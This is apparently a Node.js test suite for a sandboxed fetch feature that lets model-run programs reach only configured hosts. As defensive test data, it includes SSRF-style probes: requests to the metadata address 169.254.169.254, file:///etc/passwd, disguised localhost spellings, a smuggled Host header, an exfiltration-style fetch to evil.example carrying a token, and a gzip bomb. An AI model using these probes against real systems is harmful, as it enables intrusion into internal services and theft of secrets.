// A program's own requests, through the real program: what the configuration allows, and what happens to everything else.
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { readFileSync } from 'node:fs';
import https from 'node:https';
import net from 'node:net';
import test from 'node:test';
import { gzipSync } from 'node:zlib';
import { caseFile, httpServer, mcpClient, privateHome, run } from './lib.mjs';

/** A home whose configuration has these hosts. */
function allowing(t, fetch, more = {}) {
  const home = privateHome(t);
  const path = home.config({ codemode: { fetch, ...more } });
  const program = (code, env = {}) => run(['run', '--json', '--config', path, '-e', code], { env: { ...home.env, ...env }, cwd: home.cwd });
  const call = (method, args, env = {}) =>
    run(['call', '--json', '--config', path, `fetch.${method}`, JSON.stringify(args)], { env: { ...home.env, ...env }, cwd: home.cwd });
  return { ...home, path, program, call };
}

/** A raw server: `talk` is given each connection once a request has begun. */
async function rawServer(t, talk) {
  const server = net.createServer((socket) => {
    socket.on('error', () => {});
    t.after(() => socket.destroy());
    socket.once('data', () => talk(socket));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => server.close());
  return `http://127.0.0.1:${server.address().port}`;
}

test('a program reads and writes, and each request is a call in the outcome', async (t) => {
  const server = await httpServer(t, (rq) => (rq.method === 'POST' ? { status: 201, body: { got: rq.json, type: rq.headers['content-type'] } } : { body: { n: 1 } }));
  const { program } = allowing(t, [server.url]);
  const out = await program(`
    const list = await (await fetch('${server.url}/list?q=a b')).json();
    const made = await fetch(new URL('/items', '${server.url}'), { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ a: [1, 2] }) });
    return [list, made.status, made.ok, await made.json(), typeof fetch, typeof globalThis.get];`);
  assert.deepEqual(out.json.result, [{ n: 1 }, 201, true, { got: { a: [1, 2] }, type: 'application/json' }, 'function', 'undefined']);
  assert.deepEqual(out.json.calls.map((c) => [c.connector, c.method, c.state]), [['fetch', 'get', 'applied'], ['fetch', 'post', 'applied']]);
  assert.equal(out.json.calls[0].args.url, `${server.url}/list?q=a%20b`);
  assert.deepEqual(server.requests.map((rq) => rq.url), ['/list?q=a%20b', '/items']);
});

test('what is not allowed is told with what is, and nothing is sent', async (t) => {
  const server = await httpServer(t, () => 'reached');
  const { program } = allowing(t, ['api.example.com', { host: server.url, methods: ['get'] }]);
  const out = await program(`
    const said = [];
    for (const [url, init] of [
      ['https://evil.example/x?token=1'], ['http://api.example.com/'], ['${server.url}/', { method: 'POST', body: 'x' }],
      ['http:' + '//127.1:1/'], ['http://0x7f000001:${server.port}/'], ['http://[::ffff:127.0.0.1]:${server.port}/'], ['http://localhost:${server.port}/'],
      ['${server.url}/', { headers: { Host: 'evil.example' } }],
    ]) said.push(await fetch(url, init).then((r) => 'reached ' + r.url, (e) => e.message));
    return said;`);
  const said = out.json.result;
  assert.match(said[0], /https:\/\/evil\.example is not allowed: the configuration \(codemode\.fetch\) allows https:\/\/api\.example\.com and http:\/\/127\.0\.0\.1:\d+ \(only get\)/);
  assert.match(said[1], /allows that host as https:\/\/api\.example\.com/);
  assert.match(said[2], /allows only get there/);
  assert.match(said[3], /http:\/\/127\.0\.0\.1:1 is not allowed/);
  assert.equal(said[4], `reached ${server.url}/`, 'the same address in another spelling');
  assert.match(said[5], /http:\/\/\[::ffff:.* is not allowed/);
  assert.match(said[6], /http:\/\/localhost:\d+ is not allowed/);
  assert.match(said[7], /host' is set by the transfer itself/i);
  assert.equal(server.requests.length, 1);
  assert.equal(server.requests[0].headers.host, `127.0.0.1:${server.port}`);
});

test('a name of this machine is reached where it is listed as such, and not through another', async (t) => {
  const server = await httpServer(t, () => 'here');
  const { program } = allowing(t, [`http://localhost:${server.port}`]);
  const out = await program(`return [await (await fetch('http://LOCALHOST.:${server.port}/')).text(),
    await fetch('http://127.0.0.1:${server.port}/').catch((e) => e.message)];`);
  assert.equal(out.json.result[0], 'here');
  assert.match(out.json.result[1], /is not allowed/);
});

test('off means off: no call, no connection', async (t) => {
  const server = await httpServer(t, () => 'reached');
  const { call } = allowing(t, []);
  const out = await call('get', { url: server.url });
  assert.equal(out.status, 1);
  assert.match(out.json.error.message, /fetch is off: the configuration names no host .*codemode\.fetch/);
  assert.equal(server.requests.length, 0);
});

test('credentials of the configuration reach their host and no program', async (t) => {
  const other = await httpServer(t, (rq) => ({ body: rq.headers }));
  const server = await httpServer(t, (rq) =>
    rq.path === '/away' ? { status: 307, headers: { location: `${other.url}/` } } :
      { body: { seen: rq.headers.authorization, again: Buffer.from(rq.headers.authorization).toString('base64') } });
  const { program } = allowing(t, [{ host: server.url, headers: { Authorization: 'Bearer ${TOKEN}' } }, other.url]);
  const out = await program(`
    const here = await (await fetch('${server.url}/', { headers: { authorization: 'mine' } })).text();
    const away = await (await fetch('${server.url}/away', { headers: { cookie: 'a=b', 'x-own': '1' } })).json();
    console.log(here);
    return [here, away];`, { TOKEN: 'hunter2-hunter2' });
  assert.equal(server.requests[0].headers.authorization, 'Bearer hunter2-hunter2');
  assert.equal(other.requests.length, 1);
  assert.equal(other.requests[0].headers.authorization, undefined);
  assert.equal(other.requests[0].headers.cookie, undefined);
  assert.equal(other.requests[0].headers['x-own'], '1');
  assert.match(out.json.result[0], /\[secret /);
  assert.doesNotMatch(out.stdout + out.stderr, /hunter2|aHVudGVyMi1odW50/);
});

test('a variable that is not set switches its host off, and a wider entry behind it does not take over', async (t) => {
  const server = await httpServer(t, () => 'reached');
  const { program } = allowing(t, [{ host: server.url, headers: { Authorization: 'Bearer ${TOKEN_THAT_IS_NOT_SET}' } }, server.url]);
  const out = await program(`return await fetch('${server.url}/').catch((e) => e.message)`);
  assert.match(out.json.result, /is switched off: codemode\.fetch\[0\]\.headers\.Authorization: .*TOKEN_THAT_IS_NOT_SET/);
  assert.match(out.stderr, /codemode\.fetch\[0\].*are refused/);
  assert.equal(server.requests.length, 0);
});

test('a redirect to a place that is not listed ends there', async (t) => {
  const hidden = await httpServer(t, () => 'secret');
  const server = await httpServer(t, (rq) => ({ status: 302, headers: { location: rq.query.get('to') } }));
  const { program } = allowing(t, [server.url]);
  const out = await program(`
    const said = [];
    for (const to of ['${hidden.url}/', 'http://169.254.169.254/latest/meta-data/', 'http://[::1]/', 'file:///etc/passwd'])
      said.push(await fetch('${server.url}/?to=' + encodeURIComponent(to)).then((r) => r.text(), (e) => e.message));
    const manual = await fetch('${server.url}/?to=' + encodeURIComponent('${hidden.url}/'), { redirect: 'manual' });
    return [...said, manual.status, manual.headers.get('location')];`);
  const said = out.json.result;
  for (const text of said.slice(0, 3)) assert.match(text, /sent on with 302: http:.* is not allowed/);
  assert.match(said[3], /file.* is not of a scheme that is spoken/);
  assert.deepEqual(said.slice(4), [302, `${hidden.url}/`]);
  assert.equal(hidden.requests.length, 0);
});

test('an answer that grows when it is unpacked ends at the limit', async (t) => {
  const bomb = gzipSync(gzipSync(Buffer.alloc(64 << 20)));
  const server = await httpServer(t, (rq) => ({ headers: { 'content-encoding': rq.path === '/twice' ? 'gzip, gzip' : 'gzip' }, body: rq.path === '/twice' ? bomb : gzipSync(Buffer.alloc(3000, 'a')) }));
  const { program } = allowing(t, [server.url]);
  const out = await program(`return [await fetch('${server.url}/twice').catch((e) => e.message), (await (await fetch('${server.url}/')).text()).length]`);
  assert.match(out.json.result[0], /sent more than 4194304 bytes \(codemode\.fetch\[0\]: maxBytes\)/);
  assert.equal(out.json.result[1], 3000);
  assert.ok(bomb.length < 10_000, 'small on the wire');
});

test('a server that sends a byte now and then meets the time limit', async (t) => {
  const url = await rawServer(t, (socket) => {
    socket.write('HTTP/1.1 200 OK\r\n');
    const drip = setInterval(() => socket.write('X'), 20);
    socket.on('close', () => clearInterval(drip));
  });
  const { program } = allowing(t, [{ host: url, timeoutMs: 300 }]);
  const out = await program(`return await fetch('${url}/').catch((e) => [e.message, e.code])`);
  assert.match(out.json.result[0], /did not answer within 300 ms/);
});

test('a run that ends takes its requests along', async (t) => {
  let closed;
  const gone = new Promise((done) => (closed = done));
  const url = await rawServer(t, (socket) => socket.on('close', closed));
  const { program } = allowing(t, [url], { limits: { deadlineMs: 1000 } });
  const out = await program(`await fetch('${url}/')`);
  assert.equal(out.json.error.code, 'deadline');
  await gone;
});

test('a certificate that nobody vouches for is refused', async (t) => {
  const pem = readFileSync(caseFile('fetch', 'self-signed.pem'));
  let requests = 0;
  const server = https.createServer({ key: pem, cert: pem }, (rq, res) => res.end(`${requests++}`));
  server.on('tlsClientError', () => {}).listen(0, '127.0.0.1');
  await once(server, 'listening');
  t.after(() => server.close());
  const host = `localhost:${server.address().port}`;
  const { program } = allowing(t, [host]);
  const out = await program(`return await fetch('https://${host}/').then((r) => r.text(), (e) => e.message)`);
  assert.match(out.json.result, /https:\/\/localhost:\d+ did not prove with its certificate that it is this host/);
  assert.equal(requests, 0);
});

test('policy and approval know requests by their method; what would be refused is asked of nobody', async (t) => {
  const server = await httpServer(t, () => 'done');
  const policy = [{ match: 'fetch.post', action: 'approve' }, { match: 'fetch.delete', action: 'deny' }];
  const { program } = allowing(t, [server.url], { policy });
  const paused = await program(`await fetch('${server.url}/x', { method: 'POST', body: 'hi' })`);
  assert.equal(paused.status, 3);
  assert.deepEqual(paused.json.pending.map((p) => [p.connector, p.method, p.args.url]), [['fetch', 'post', `${server.url}/x`]]);
  const denied = await program(`return await fetch('${server.url}/x', { method: 'DELETE' }).catch((e) => e.message)`);
  assert.match(denied.json.result, /fetch\.delete is denied by .*policy/);
  const elsewhere = await program(`return await fetch('https://evil.example/', { method: 'POST', body: 'hi' }).catch((e) => e.message)`);
  assert.match(elsewhere.json.result, /https:\/\/evil\.example is not allowed/);
  assert.equal(server.requests.length, 0);
});

test('a proxy of the environment is not asked', async (t) => {
  const proxy = await httpServer(t, () => 'from the proxy');
  const server = await httpServer(t, () => 'from the server');
  const { call } = allowing(t, [server.url]);
  const env = { http_proxy: proxy.url, HTTP_PROXY: proxy.url, ALL_PROXY: proxy.url, all_proxy: proxy.url, no_proxy: undefined, NO_PROXY: undefined };
  const out = await call('get', { url: server.url }, env);
  assert.equal(Buffer.from(out.json.result.body.$bytes, 'base64').toString(), 'from the server');
  assert.equal(proxy.requests.length, 0);
});

test('requests count as calls of a run', async (t) => {
  const server = await httpServer(t, () => 'x');
  const { program } = allowing(t, [server.url], { limits: { subrequests: 2 } });
  const out = await program(`for (let i = 0; i < 3; i++) await fetch('${server.url}/')`);
  assert.equal(out.json.error.code, 'subrequests_limit');
  assert.equal(server.requests.length, 2);
});

test('the model is told which hosts there are, and finds no connector of the name', async (t) => {
  const { path, env, cwd } = allowing(t, ['api.example.com', { host: '*.example.org', methods: ['get'] }]);
  const { client } = await mcpClient(t, { args: ['--config', path], env, cwd });
  const { tools } = await client.listTools();
  const { description } = tools[0];
  assert.match(description, /`fetch` reaches only https:\/\/api\.example\.com and https:\/\/\*\.example\.org \(only get\)\./);
  assert.doesNotMatch(description, /Do not use `fetch`/);
  const check = await run(['check', '--config', path], { env, cwd });
  assert.match(check.stdout, /^fetch +https:\/\/api\.example\.com and https:\/\/\*\.example\.org \(only get\)$/m);
  const listed = await run(['tools', '--json', '--config', path], { env, cwd });
  assert.doesNotMatch(listed.stdout, /fetch/);
});

const wrong = [
  [['*'], /codemode\.fetch\[0\]: '\*' would allow every host there is; .*expected a host such as "api\.example\.com"/],
  [['a.test', '*.com'], /codemode\.fetch\[1\]: '\*\.com' would allow everything below a top-level domain/],
  [['https://a.test/path'], /codemode\.fetch\[0\]: .*more than a scheme, a host and a port/],
  [[7], /codemode\.fetch\[0\]: is a number; expected a host/],
  ['a.test', /codemode\.fetch: is a string; expected an array of hosts/],
  [[{ headers: {} }], /codemode\.fetch\[0\]\.host: is missing/],
  [[{ host: 'a.test', methods: ['fetch'] }], /codemode\.fetch\[0\]\.methods: 'fetch' is none of get, head/],
  [[{ host: 'a.test', methods: 'get' }], /codemode\.fetch\[0\]\.methods: is a string; expected an array of strings/],
  [[{ host: 'a.test', allowPrivate: 'yes' }], /codemode\.fetch\[0\]\.allowPrivate: is a string; expected true, false, or an array/],
  [[{ host: 'a.test', allowPrivate: ['10.0.0.1/8'] }], /codemode\.fetch\[0\]\.allowPrivate: '10\.0\.0\.1\/8' has bits behind its prefix length/],
  [[{ host: 'a.test', maxBytes: 1e9 }], /codemode\.fetch\[0\]\.maxBytes: is 1000000000; expected a whole number from 1 to 33554432/],
  [[{ host: 'a.test', headers: { Host: 'b.test' } }], /codemode\.fetch\[0\]\.headers\.Host: is set by the transfer itself/],
  [['${NO_SUCH_VARIABLE_HERE}'], /codemode\.fetch\[0\]: .*NO_SUCH_VARIABLE_HERE/],
];

test('a host that cannot be read starts nothing, and says what would be accepted', async (t) => {
  const home = privateHome(t);
  await Promise.all(wrong.map(async ([fetch, pattern], i) => {
    const path = home.config({ codemode: { fetch } }, `wrong-${i}.json`);
    const out = await run(['call', '--config', path, 'fetch.get', '{"url":"https://a.test/"}'], { env: home.env, cwd: home.cwd });
    assert.equal(out.status, 2, out.stdout + out.stderr);
    assert.match(out.stderr, pattern);
    assert.match(out.stderr, /wrong-\d+\.json'/);
  }));
});

test('a server of the name is refused beside it, and works without', async (t) => {
  const home = privateHome(t);
  const mcpServers = { fetch: { command: 'true' } };
  const both = home.config({ mcpServers, codemode: { fetch: ['a.test'] } }, 'both.json');
  const out = await run(['call', '--config', both, 'fetch.get', '{"url":"https://a.test/"}'], { env: home.env, cwd: home.cwd });
  assert.equal(out.status, 2);
  assert.match(out.stderr, /mcpServers\.fetch and codemode\.fetch would both be 'fetch'/);
  const one = home.config({ mcpServers }, 'one.json');
  const alone = await run(['run', '--config', one, '-e', 'return 1'], { env: home.env, cwd: home.cwd });
  assert.equal(alone.stdout.trim(), '1');
});
